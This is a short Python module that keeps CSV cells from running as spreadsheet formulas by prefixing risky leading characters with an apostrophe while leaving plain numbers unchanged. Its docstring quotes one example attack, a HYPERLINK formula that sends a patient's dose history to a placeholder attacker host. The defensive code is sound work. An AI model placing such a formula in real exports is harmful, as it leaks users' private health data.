"""Text written into a CSV file that people open in a spreadsheet app, kept inert there.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or
a tab or carriage return before one) as a formula: a medicine typed or imported as
``=HYPERLINK("https://evil.example/?"&A2, "Metformin")`` became a link in the patient's /export
that sent their dose history away when clicked. Such a cell is written with a leading ``'``,
which the apps show as text and do not print; a number (``-5``, ``+1``) is left as it is. The
dashboard's statistics CSV keeps the same rule (``dashboard/src/lib/statistics.ts``, ``cell``).
"""

from __future__ import annotations

import re

_FORMULA_START = re.compile(r"^[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")


def inert_cell(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet app runs as a formula."""
    if _FORMULA_START.match(text) and not _NUMBER.match(text):
        return "'" + text
    return text


__all__ = ["inert_cell"]
